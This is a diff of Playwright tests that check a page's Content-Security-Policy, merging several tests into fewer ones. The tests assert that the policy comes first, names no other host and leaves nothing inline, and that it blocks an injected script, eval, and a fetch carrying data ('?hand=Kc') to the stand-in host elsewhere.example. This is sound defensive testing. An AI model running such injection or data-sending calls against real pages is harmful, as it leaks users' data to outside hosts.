@@ -3,19 +3,15 @@
 import { readFileSync } from "node:fs";
 import { expect, openHome, test, usable } from "./fixtures.mjs";
 
-test("the policy comes before everything that it is to hold for", async ({ page }) => {
-  await page.goto("./");
+test("the policy comes before everything that it is to hold for, names no other host, and nothing is inline", async ({ page }) => {
+  await openHome(page);
   const html = await (await page.request.get("./")).text();
-  const policy = html.indexOf("Content-Security-Policy");
-  expect(policy).toBeGreaterThan(0);
+  const at = html.indexOf("Content-Security-Policy");
+  expect(at).toBeGreaterThan(0);
   for (const tag of ["<link", "<script", "<img", "<style"]) {
     const first = html.indexOf(tag);
-    expect(first === -1 || first > policy, tag).toBe(true);
+    expect(first === -1 || first > at, tag).toBe(true);
   }
-});
-
-test("it names no other host, and nothing inline", async ({ page }) => {
-  await page.goto("./");
   const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
   const directives = Object.fromEntries(policy.split(";").map((part) => part.trim().split(/ (.*)/)));
   expect(directives).toEqual({
@@ -30,10 +26,6 @@ test("it names no other host, and nothing inline", async ({ page }) => {
     "base-uri": "'none'",
     "form-action": "'none'",
   });
-});
-
-test("the page has no inline script, style or handler", async ({ page }) => {
-  await openHome(page);
   expect(await page.locator("style, [style], script:not([src])").count()).toBe(0);
   const handlers = await page.evaluate(() =>
     [...document.querySelectorAll("*")].flatMap(({ attributes }) =>
@@ -46,7 +38,7 @@ test("the page has no inline script, style or handler", async ({ page }) => {
 test.describe("what it forbids", () => {
   test.use({ expected: /policy: |Content Security Policy/ });
 
-  test("a script that was slipped in does not run", async ({ page }) => {
+  test("a script that was slipped in does not run, and nothing can be sent to another host", async ({ page }) => {
     await openHome(page);
     await page.evaluate(() => {
       const script = document.createElement("script");
@@ -68,10 +60,6 @@ test.describe("what it forbids", () => {
     const refused = await page.evaluate(evaluated);
     expect(refused).toBe("EvalError");
     expect(await page.evaluate(() => globalThis.slippedIn)).toBeUndefined();
-  });
-
-  test("nothing can be sent to another host", async ({ page }) => {
-    await openHome(page);
     const failed = await page.evaluate(() =>
       fetch("https://elsewhere.example/?hand=Kc").then(
         () => "sent",
